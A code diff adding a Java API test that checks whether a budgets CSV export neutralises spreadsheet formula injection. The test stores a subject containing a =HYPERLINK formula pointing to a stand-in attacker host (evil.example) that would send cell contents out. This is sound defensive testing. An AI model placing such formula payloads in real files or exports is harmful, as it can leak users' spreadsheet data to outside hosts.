@@ -172,6 +172,25 @@ class LimitsApiTest {
         given().auth().oauth2(ADMIN).delete("/api/limits/" + id).then().statusCode(204);
     }
 
+    @Test
+    void aSubjectThatLooksLikeAFormulaIsTextInTheBudgetsCsv() {
+        String id = unique("hostile");
+        String unit = "=HYPERLINK(\"https://evil.example/\"&A1,\"x\") " + id;
+        admin().body("{\"subject\":{\"type\":\"businessUnit\",\"id\":" + quoted(unit) + "},"
+                + "\"budget\":{\"month\":\"5\"}}").put("/api/limits/" + id).then().statusCode(201);
+        String csv = given().auth().oauth2(READER).accept("text/csv").get("/api/budgets").then().statusCode(200)
+                .extract().asString();
+        String line = csv.lines().filter(l -> l.startsWith(id + ",")).findFirst().orElseThrow();
+        assertThat(line).contains(",\"'=HYPERLINK(").doesNotContain(",=HYPERLINK").doesNotContain(",\"=HYPERLINK");
+        given().auth().oauth2(READER).get("/api/budgets").then().statusCode(200)
+                .body("find { it.ruleId == '" + id + "' }.subject", equalTo(unit));
+        given().auth().oauth2(ADMIN).delete("/api/limits/" + id).then().statusCode(204);
+    }
+
+    private static String quoted(String text) {
+        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
+    }
+
     private static boolean settle(Admitted admitted, String app) {
         admitted.ticket().settle(new UsageRecord(UUID.randomUUID(), Instant.now(), app, "t", "gpt-4o",
                 "gpt-4o-2024-08-06", "sim-1", null, DeploymentType.GLOBAL, "chat/completions", false, 200, 5, 1,
